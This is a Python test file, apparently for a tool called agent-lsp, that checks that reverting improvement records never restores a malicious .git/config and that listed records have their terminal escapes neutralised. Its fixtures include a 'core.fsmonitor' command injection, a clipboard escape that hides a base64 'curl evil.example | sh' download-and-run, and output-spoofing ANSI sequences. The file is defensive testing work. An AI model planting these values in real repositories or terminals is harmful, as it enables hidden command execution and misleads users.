"""What a repository ships under `.agent-lsp/improvements/` is not the user's log: `agent-lsp
improve --revert` never acts on a record this user's agent-lsp did not sign, and even a signed
record only writes the files an improvement writes — never `.git/config` (a `core.fsmonitor`
there runs a command at the next `git status`). `--list` shows records' strings escaped."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.records import write_signed
from tests.test_cli import agent_lsp

ID = "20260101-000000-beef"


def git_repo(root: Path) -> Path:
    git = shutil.which("git")
    if git is None:
        pytest.skip("git not installed")
    subprocess.run([git, "init", "-q", str(root)], check=True, capture_output=True)
    return root / ".git" / "config"


def record(config: Path, canary: Path, **extra: object) -> dict[str, object]:
    """A log entry whose revert would put a `core.fsmonitor` back into `.git/config`."""
    now = config.read_text()
    hostile = now + f"[core]\n\tfsmonitor = touch {canary}\n"
    return {
        "id": ID,
        "time": "2026-01-01T00:00:00+00:00",
        "request": "tidy the settings",
        "patch": {"summary": "tidy"},
        "files": [{"path": ".git/config", "before": hostile, "after": now}],
        "checked": [],
        "reverted": None,
        **extra,
    }


def git_status(root: Path) -> None:
    subprocess.run(["git", "status", "--short"], cwd=root, capture_output=True, check=False)


def test_a_shipped_improvement_record_is_ignored_and_git_config_stays(
    project: Path, server_env: dict[str, str], tmp_path: Path
) -> None:
    config = git_repo(project)
    canary = tmp_path / "canary"
    shipped = project / ".agent-lsp" / "improvements" / f"{ID}.json"
    shipped.parent.mkdir(parents=True)
    shipped.write_text(json.dumps(record(config, canary)))
    before = config.read_bytes()

    done = agent_lsp("improve", "--revert", "beef", "--root", str(project), env=server_env)

    assert done.returncode == 1, done.stdout + done.stderr
    assert "reverted" not in done.stdout
    assert f".agent-lsp/improvements/{ID}.json: ignored" in done.stderr
    assert "not signed by agent-lsp for this user" in done.stderr
    assert "Traceback" not in done.stderr
    assert config.read_bytes() == before
    git_status(project)
    assert not canary.exists()

    listed = agent_lsp("improve", "--list", "--root", str(project), env=server_env)
    assert listed.returncode == 0
    assert "no improvements yet" in listed.stdout and ID not in listed.stdout
    assert f"{ID}.json: ignored" in listed.stderr


def test_even_a_signed_record_never_writes_git_config(
    project: Path, server_env: dict[str, str], tmp_path: Path
) -> None:
    config = git_repo(project)
    canary = tmp_path / "canary"
    write_signed(
        project / ".agent-lsp" / "improvements" / f"{ID}.json",
        "improvement",
        record(config, canary),
    )
    before = config.read_bytes()

    done = agent_lsp("improve", "--revert", "beef", "--root", str(project), env=server_env)

    assert done.returncode == 1, done.stdout + done.stderr
    assert "refused: .git/config is not a file an improvement writes" in done.stderr
    assert config.read_bytes() == before
    git_status(project)
    assert not canary.exists()


def test_list_shows_a_records_escape_sequences_escaped(
    project: Path, server_env: dict[str, str], tmp_path: Path
) -> None:
    config = git_repo(project)
    clip = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    entry = record(config, tmp_path / "canary", request=f"tidy{clip}")
    entry["patch"] = {"summary": "\x1b[2K\rall good"}
    write_signed(project / ".agent-lsp" / "improvements" / f"{ID}.json", "improvement", entry)
    shipped = project / ".agent-lsp" / "improvements" / "20260102-000000-f00d.json"
    shipped.write_text(json.dumps(entry | {"id": "20260102-000000-f00d\x1b[2K"}))

    listed = subprocess.run(
        [*agent_lsp_argv(), "improve", "--list", "--root", str(project)],
        env=server_env,
        capture_output=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        check=False,
    )

    assert listed.returncode == 0, listed.stderr
    for stream in (listed.stdout, listed.stderr):
        assert b"\x1b" not in stream and b"\x07" not in stream and b"\r" not in stream
    out = listed.stdout.decode()
    assert ID in out
    assert "\\u001b[2K\\u000dall good" in out
    assert "request: tidy\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007" in out


def agent_lsp_argv() -> list[str]:
    import sys

    return [sys.executable, "-m", "agent_lsp"]
